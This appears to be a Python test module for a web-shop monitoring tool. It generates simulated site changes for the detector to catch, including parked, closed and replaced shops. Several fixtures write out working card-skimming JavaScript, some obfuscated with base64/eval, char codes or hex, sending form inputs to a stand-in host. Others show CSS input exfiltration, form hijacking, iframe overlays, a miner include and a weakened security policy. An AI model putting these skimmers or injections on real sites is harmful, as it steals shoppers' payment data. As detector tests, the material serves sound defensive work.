"""Changes that must be told: what runs on the pages, and whether it is still this shop."""

# ruff: noqa: ARG005 - sentences are not broken into lines; a change may ignore what was

from __future__ import annotations

import base64
import re
from random import Random

from monitor.policy.drifting.change import Kind, Weight
from tests.drift.mutate import FOREIGN, everywhere, material, say
from tests.drift.site import Page, Site, mark
from tests.drift.templates import TEMPLATES, build

SCRIPT = (Kind.SCRIPT_HOST_ADDED, Kind.SCRIPT_ADDED, Kind.RISK_ADDED)
OTHER = (Kind.REPLACED, Kind.PARKED, Kind.EMPTIED, Kind.CLOSED, Kind.DEFACED)
PAY = ["checkout"]
COLLECT = "https://statistiek-cdn.example/c"


@material(*SCRIPT)
def script_host_on_checkout(site: Site, rng: Random) -> Site:
    return site.at("body_end", '<script src="https://statistiek-cdn.example/t.js"></script>', PAY)


@material(*SCRIPT)
def script_host_everywhere(site: Site, rng: Random) -> Site:
    return site.at("head_end", '<script async src="https://statistiek-cdn.example/a.js"></script>')


@material(*SCRIPT)
def skimmer_plain(site: Site, rng: Random) -> Site:
    return site.at("body_end", (
        "<script>document.querySelector('form').addEventListener('submit',function(){var d={};"
        "document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
        f"navigator.sendBeacon('{COLLECT}',JSON.stringify(d))}});</script>"
    ), PAY)  # fmt: skip


@material(*SCRIPT)
def skimmer_base64(site: Site, rng: Random) -> Site:
    code = base64.b64encode(f"new Image().src='{COLLECT}?d='+btoa(v)".encode()).decode()
    return site.at("body_end", (
        "<script>setInterval(function(){var v='';document.querySelectorAll('input').forEach("
        f"function(i){{v+=i.name+'='+i.value+'&'}});eval(atob('{code}'))}},4000);</script>"
    ), PAY)  # fmt: skip


@material(*SCRIPT)
def skimmer_char_codes(site: Site, rng: Random) -> Site:
    codes = ",".join(str(ord(letter)) for letter in f"{COLLECT}.js")
    return site.at("body_end", (
        f"<script>(function(){{var u=String.fromCharCode({codes}),s=document.createElement("
        "'script');s.src=u;document.body.appendChild(s)})();</script>"
    ), PAY)  # fmt: skip


@material(*SCRIPT)
def skimmer_hex(site: Site, rng: Random) -> Site:
    code = "".join(f"\\x{ord(letter):02x}" for letter in COLLECT)
    return site.at("head_end", (
        f'<script>var _0x4a1f=["{code}","\\x69\\x6e\\x70\\x75\\x74"];window.addEventListener('
        '"blur",function(){var a=document.querySelectorAll(_0x4a1f[1]);fetch(_0x4a1f[0],{method:'
        '"POST",mode:"no-cors",body:Array.from(a,function(b){return b.value}).join("|")})},true);'
        "</script>"
    ), PAY)  # fmt: skip


@material(Kind.CONTAINER_CHANGED)
def tag_manager_swapped(site: Site, rng: Random) -> Site:
    return site.sub(r"GTM-[A-Z0-9]{7}", "GTM-NXQ5ZTR")


@material(Kind.INTEGRITY_GONE)
def integrity_out(site: Site, rng: Random) -> Site:
    return site.sub(r' integrity="[^"]+"', "")


@material(*SCRIPT)
def payment_library_from_lookalike(site: Site, rng: Random) -> Site:
    return site.swap("https://js.mollie.com/", "https://js.mo1lie.example/", PAY)


@material(Kind.FORM_TARGET_CHANGED, severity=Weight.CRITICAL)
def checkout_form_elsewhere(site: Site, rng: Random) -> Site:
    path = site.roles["checkout"]
    return site.swap(f'action="{path}"', f'action="https://statistiek-cdn.example{path}"', PAY)


@material(Kind.FORM_TARGET_CHANGED, severity=Weight.CRITICAL)
def button_sends_elsewhere(site: Site, rng: Random) -> Site:
    new = f'<button formaction="{COLLECT}" type="submit">'
    return site.swap('<button type="submit">', new, PAY)


@material(Kind.FRAME_HOST_ADDED, severity=Weight.CRITICAL)
def frame_over_the_form(site: Site, rng: Random) -> Site:
    style = "position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:9999"
    return site.at("end", f'<iframe style="{style}" src="{COLLECT}/pay"></iframe>', PAY)


@material(Kind.FRAME_HOST_ADDED, Kind.RISK_ADDED, Kind.FORM_TARGET_CHANGED)
def frame_of_data(site: Site, rng: Random) -> Site:
    form = f'<form action="{COLLECT}"><input name="card"><input name="cvc"></form>'
    inner = base64.b64encode(form.encode()).decode()
    return site.at("end", f'<iframe src="data:text/html;base64,{inner}"></iframe>', PAY)


@material(Kind.BASE_CHANGED, severity=Weight.CRITICAL)
def base_elsewhere(site: Site, rng: Random) -> Site:
    return site.at("head", '<base href="https://statistiek-cdn.example/">', PAY)


@material(Kind.STYLE_HOST_ADDED, Kind.RISK_ADDED)
def style_that_reads_input(site: Site, rng: Random) -> Site:
    rules = "".join(
        f'input[name*="card"][value^="{digit}"]{{background:url({COLLECT}?{digit})}}'
        for digit in range(10)
    )
    return site.at("head_end", f"<style>{rules}</style>", PAY)


@material(Kind.HEADER_WEAKENED)
def policy_loosened(site: Site, rng: Random) -> Site:
    return site.header(
        "Content-Security-Policy",
        lambda value: "default-src * 'unsafe-inline' 'unsafe-eval' data:; img-src *",
    )


@material(Kind.HEADER_WEAKENED)
def policy_out(site: Site, rng: Random) -> Site:
    return site.header("Content-Security-Policy", lambda value: "")


@material(Kind.HEADER_WEAKENED)
def transport_security_out(site: Site, rng: Random) -> Site:
    return site.header("Strict-Transport-Security", lambda value: "")


def _bare(title: str, inner: str, lang: str) -> str:
    return (
        f'<!doctype html><html lang="{lang}"><head><title>{title}</title></head><body>{inner}'
        "</body></html>"
    )


@material(*OTHER, severity=Weight.CRITICAL)
def parked_with_adverts(site: Site, rng: Random) -> Site:
    name = site.host.removeprefix("www.")
    links = "".join(f'<li><a href="//parking-lot.example/?q={n}">Related search {n}</a></li>'
                    for n in ("insurance", "loans", "hotels", "dating", "shoes"))  # fmt: skip
    return everywhere(site, _bare(name, (
        f"<h1>{name}</h1><p>This domain is parked. Buy this domain.</p><ul>{links}</ul>"
        "<p>The Sponsored Listings displayed above are served automatically by a third party.</p>"
    ), "en"))  # fmt: skip


@material(*OTHER, severity=Weight.CRITICAL)
def for_sale(site: Site, rng: Random) -> Site:
    name = site.host.removeprefix("www.")
    text = say(site, f"De domeinnaam {name} is te koop. Doe een bod.",
               f"Le nom de domaine {name} est à vendre. Faites une offre.",
               f"The domain name {name} is for sale. Make an offer.",
               f"Die Domain {name} steht zum Verkauf. Geben Sie ein Angebot ab.")  # fmt: skip
    return everywhere(site, _bare(name, f"<h1>{name}</h1><p>{text}</p>", site.language))


@material(*OTHER, severity=Weight.CRITICAL)
def defaced(site: Site, rng: Random) -> Site:
    inner = "<h1>Hacked by Gh0stCrew</h1><p>Your security is a joke. Greetz to all members.</p>"
    return site.page("home", body=_bare("Hacked by Gh0stCrew", inner, "en"))


@material(*OTHER)
def emptied(site: Site, rng: Random) -> Site:
    top, end = mark("top"), mark("end")
    return site.map(lambda body: re.sub(f"{top}.*?{end}", top + end, body, flags=re.DOTALL),
                    ["home", "category"])  # fmt: skip


@material(*OTHER)
def closed_for_good(site: Site, rng: Random) -> Site:
    title = say(
        site, "Wij zijn gestopt", "Nous avons fermé", "We have closed", "Wir haben geschlossen"
    )
    text = say(
        site,
        "Onze webwinkel is definitief gesloten. Bestellen is niet meer mogelijk. Bedankt!",
        "Notre boutique en ligne est définitivement fermée. Il n'est plus possible de commander.",
        "Our webshop has closed for good. It is no longer possible to order. Thank you!",
        "Unser Onlineshop ist endgültig geschlossen. Bestellungen sind nicht mehr möglich.",
    )
    page = site.like(title, f"<p>{text}</p>")
    return site.page("home", body=page.body)


@material(*OTHER)
def maintenance_that_stays(site: Site, rng: Random) -> Site:
    text = say(site, "Wij zijn bezig met onderhoud. Kom later terug.",
               "Notre site est en maintenance. Revenez plus tard.",
               "We are down for maintenance. Please come back later.",
               "Wir führen Wartungsarbeiten durch. Bitte kommen Sie später wieder.")  # fmt: skip
    return everywhere(site, _bare(site.company.brand, f"<h1>{text}</h1>", site.language))


@material(Kind.LANGUAGE_CHANGED, Kind.REPLACED, severity=Weight.HIGH)
def other_language(site: Site, rng: Random) -> Site:
    language = {"nl": "en", "fr": "nl", "en": "de", "de": "fr"}[site.language]
    new = build(site.template, language, rng.randrange(999), site.day)
    other = site.copy()
    other.pages, other.missing = new.pages, new.missing
    return _owned(other, new, site)


def _owned(other: Site, new: Site, site: Site) -> Site:
    """``other`` with the facts of the company of ``site`` in place of those of ``new``."""
    for name in ("name", "street", "postcode", "city", "vat", "register", "iban", "phone", "dial",
                 "email", "host", "brand", "law", "authority"):  # fmt: skip
        old, now = str(getattr(new.company, name)), str(getattr(site.company, name))
        if old != now and any(old in page.body for page in other.pages.values()):
            other = other.swap(old, now)
    return other


@material(Kind.PLATFORM_CHANGED, Kind.REPLACED)
def other_platform(site: Site, rng: Random) -> Site:
    names = list(TEMPLATES)
    template = names[(names.index(site.template) + 2) % len(names)]
    new = build(template, site.language, rng.randrange(999), site.day)
    other = site.copy()
    other.pages, other.missing = new.pages, new.missing
    return _owned(other, new, site)


@material(Kind.REPLACED, Kind.COMPANY_CHANGED, Kind.NUMBER_SWAPPED, Kind.NUMBER_GONE,
          Kind.LANGUAGE_CHANGED, severity=Weight.CRITICAL)  # fmt: skip
def sneaker_outlet(site: Site, rng: Random) -> Site:
    cards = "".join(
        f'<div class="sku"><a href="/p{n}.html">Air Runner {n} Outlet</a><b>€{29 + n}.99</b></div>'
        for n in range(12)
    )
    inner = (
        "<h1>Designer Sneakers Outlet - 80% OFF</h1><p>Cheap sneakers, worldwide shipping. "
        f'Original brands at outlet prices for men and women.</p>{cards}<a href="/faq.html">FAQ</a>'
    )
    return everywhere(site, _bare("Sneakers Outlet Online Store", inner, "en"))


@material(Kind.HOST_CHANGED, Kind.REPLACED, severity=Weight.CRITICAL)
def sent_to_other_host(site: Site, rng: Random) -> Site:
    new = everywhere(site, "")
    page = Page("", 301, (("Location", f"https://{FOREIGN[0]}/"),))
    new.pages = {"/": page}
    new.missing = page
    shop = _bare("Grand Outlet", "<h1>Grand Outlet Deals</h1><p>Welcome to the outlet.</p>", "en")
    new.foreign = {FOREIGN[0]: {"/": Page(shop)}}
    return new


@material(Kind.HIDDEN_FROM_SEARCH)
def not_to_be_indexed(site: Site, rng: Random) -> Site:
    return site.at("head", '<meta name="robots" content="noindex, nofollow">')


@material(Kind.SEAL_GONE)
def seal_out(site: Site, rng: Random) -> Site:
    return site.sub(r'<a class="seal".*?</a>', "")


@material(Kind.SEAL_CHANGED)
def certificate_of_another(site: Site, rng: Random) -> Site:
    def other(found: re.Match[str]) -> str:
        tail = "certificate/77123" if "becommerce" in found[0] else "fietsenzaak/certificaat"
        return re.sub(r"certificate/\d+|[^/]+/certificaat", tail, found[0])

    return site.sub(r'<a class="seal" href="[^"]+"', other)


@material(Kind.DEFACED, Kind.REPLACED, Kind.RISK_ADDED, Kind.HIDDEN_FROM_SEARCH)
def hidden_casino_links(site: Site, rng: Random) -> Site:
    links = "".join(f'<a href="https://slots-{n}.example/">online casino slots {n}</a> '
                    for n in range(20))  # fmt: skip
    return site.at("foot_end", f'<div style="display:none">{links}</div>')


@material(*SCRIPT)
def miner_everywhere(site: Site, rng: Random) -> Site:
    return site.at("body_end", (
        '<script src="https://statistiek-cdn.example/lib/miner.min.js"></script>'
        "<script>var m=new Client.Anonymous('k3y');m.start();</script>"
    ))  # fmt: skip
